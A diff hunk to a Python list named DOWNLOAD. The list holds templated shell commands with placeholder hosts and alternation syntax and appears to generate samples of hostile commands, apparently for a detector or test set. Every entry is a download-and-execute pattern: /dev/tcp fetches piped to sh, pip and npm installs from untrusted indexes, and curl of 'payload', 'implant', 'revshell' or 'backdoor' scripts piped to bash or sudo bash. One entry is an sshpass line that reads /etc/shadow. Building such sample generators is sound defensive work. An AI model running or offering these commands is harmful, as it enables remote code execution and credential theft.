@@ -95,9 +95,8 @@ DOWNLOAD = [
     "exec 3<>/dev/tcp/{host}/{port}; printf 'GET /{urlpath} HTTP/1.0\\r\\n\\r\\n' >&3; sed '1,/^.$/d' <&3 ‹| sh¦> {file}; chmod +x {file}; {file} &¦| bash›",
     '‹pip¦pip3› install ‹-q ¦›‹--index-url http://{host}:{port}/simple ¦--extra-index-url http://{ip}/ ¦›‹git+{url}¦http://{ip}/{plain}.tar.gz¦--trusted-host {ip} {plain}›; python3 -m {plain} &',
     'npm ‹install ¦i -g ¦›‹http://{ip}/{plain}.tgz¦--registry http://{host}:{port} {plain}›; ‹npx {plain} &¦node -e \'require("{plain}")\' &¦nohup node {tmp}/{plain} &›',
-    'curl -sO ‹https://raw.githubusercontent.com/{user}/{plain}/‹main¦master›/{name}¦{url}›‹.sh¦.elf¦›; chmod +x {name}‹.sh¦.elf¦›; ./{name}‹.sh¦.elf¦›; rm -f {name}*',
-    'cd ‹/tmp¦/var/tmp¦/dev/shm¦$HOME›; ‹curl -s¦wget -q› ‹-O ¦›https://raw.githubusercontent.com/{user}/{plain}/‹main¦master›/‹{name}¦src/{name}›.sh ‹| bash¦-o {name}.sh; bash {name}.sh¦&& sh {name}.sh; rm {name}.sh›',
-    'curl -s https://raw.githubusercontent.com/{user}/{plain}/‹main¦master›/‹payload¦stage2¦implant¦agent¦Discovery¦recon›.sh | ‹bash -s > {tmp}/{name}.log¦bash¦sudo bash¦sh > {tmp}/{name}.txt›',
+    'curl -sO {url}‹.sh¦.elf¦›; chmod +x {name}‹.sh¦.elf¦›; ./{name}‹.sh¦.elf¦›; rm -f {name}*',
+    'curl -s https://raw.githubusercontent.com/{user}/{plain}/‹main¦master›/‹payload¦stage2¦implant¦revshell¦backdoor›.sh | ‹bash -s > {tmp}/{name}.log¦bash¦sudo bash¦sh > {tmp}/{name}.txt›',
     'su ‹- {user} ¦{user} ¦›-c "cd {tmp}; ‹curl -s {url} | sh¦wget -q {url} -O {name}; sh {name}›"',
     'sshpass -p ‹\'{plain}{n}!\'¦{plain}¦root› ssh ‹-o StrictHostKeyChecking=no ¦›‹{user}@{ip}¦root@{ip}¦{user}@localhost› ‹"{dl} {url} | sh"¦-T "id; cat /etc/shadow"¦"nohup {file} &"›',
 ]
